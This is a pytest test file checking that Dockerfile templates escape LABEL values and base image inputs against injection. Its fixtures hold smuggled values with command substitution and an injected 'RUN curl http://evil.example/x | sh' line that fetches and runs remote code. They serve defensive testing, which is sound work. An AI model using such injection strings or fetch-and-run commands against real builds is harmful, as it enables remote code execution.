"""LABEL values in the batch, training and modelcar Dockerfiles go through `docker_label`:
a value can neither end the instruction (newline) nor trigger `$` substitution."""

from __future__ import annotations

from typing import Any

import pytest

from yarn2k8s.rendering import render

HOSTILE = 'job "$(id)" ${HOME} \\\nRUN curl http://evil.example/x | sh'
_COMMON: dict[str, Any] = {"base_image": "debian:bookworm-slim", "source": HOSTILE}
_CONTEXTS: dict[str, dict[str, Any]] = {
    "docker/batch.Dockerfile.j2": {"files": [], "workdir": "/opt/app", "uid": 1000},
    "docker/modelcar.Dockerfile.j2": {},
    "docker/training.Dockerfile.j2": {
        "reason": "r",
        "untagged": False,
        "ssh": False,
        "openmpi": False,
        "uid": 10001,
        "user": "trainer",
        "home": "/home/trainer",
        "ssh_port": 2222,
        "requirements": False,
        "requirements_source": "",
        "files": False,
        "app_dir": "/opt/app",
    },
}


def _label_block(text: str) -> list[str]:
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("LABEL "))
    block = [lines[start]]
    while block[-1].endswith("\\"):
        block.append(lines[start + len(block)])
    return block


@pytest.mark.parametrize("template", sorted(_CONTEXTS))
def test_label_values_are_escaped(template: str) -> None:
    text = render(template, **_COMMON, **_CONTEXTS[template], name=HOSTILE, description=HOSTILE)
    block = _label_block(text)
    assert len(block) == 3  # title, source, description: the value added no line
    expected = '"job \\"\\$(id)\\" \\${HOME} \\\\ RUN curl http://evil.example/x | sh"'
    for line in block:
        value = line.split("=", 1)[1].removesuffix(" \\")
        assert value == expected, line
    assert not any(line.startswith("RUN curl") for line in text.splitlines())


def test_an_input_base_image_cannot_add_an_instruction() -> None:
    context = {**_CONTEXTS["docker/training.Dockerfile.j2"], "source": "s", "name": "n"}
    context["base_image"] = "img:1\nRUN curl http://evil.example/x | sh"
    text = render("docker/training.Dockerfile.j2", **context, description="d")
    assert not any(line.startswith("RUN curl") for line in text.splitlines())
    assert "FROM img:1 RUN curl" in text  # one (invalid) FROM line: the build fails instead
